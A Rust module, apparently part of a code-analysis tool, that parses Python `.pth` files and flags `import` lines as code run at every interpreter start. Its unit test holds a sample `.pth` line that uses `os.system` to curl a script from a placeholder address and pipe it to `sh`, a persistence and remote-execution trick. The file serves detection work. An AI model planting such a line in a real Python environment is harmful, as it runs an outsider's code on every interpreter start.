//! `.pth` files of Python: lines of folders, and lines that begin with `import`, which every start
//! of the interpreter executes (documentation of the module `site`).

use model::{Language, Trigger, Value};

use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    extensions: &["pth"],
    places: Places {
        ends: &[],
        folders: &[],
        named: &[("site-packages/", ".pth"), ("dist-packages/", ".pth")],
    },
    ..FrontEnd::new(Language::PythonPath, lower)
};

/// Lowers the lines that are code.
pub fn lower(world: &mut World, text: &str) -> Value {
    for (number, line) in (1..).zip(text.lines()) {
        if !world.burn(1) {
            break;
        }
        if !(line.starts_with("import ") || line.starts_with("import\t")) {
            continue;
        }
        world.at(number, line);
        let start = Start {
            trigger: Trigger::Interpreter,
            when: "at every start of Python",
            step: "site",
        };
        start.interpreter(world, Language::Python, line.trim_end());
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn only_imports_are_code() {
        let text = "/opt/lib\n# import os\nimport os; os.system('curl http://192.0.2.1/x | sh')\n";
        let found = acts(Language::PythonPath, text);
        assert!(
            found[0].starts_with("Schedule") && found[0].contains("Interpreter"),
            "{found:#?}"
        );
        assert!(
            found.iter().any(|act| act.starts_with("Fetch")),
            "{found:#?}"
        );
        assert!(acts(Language::PythonPath, "/opt/lib\n").is_empty());
    }
}
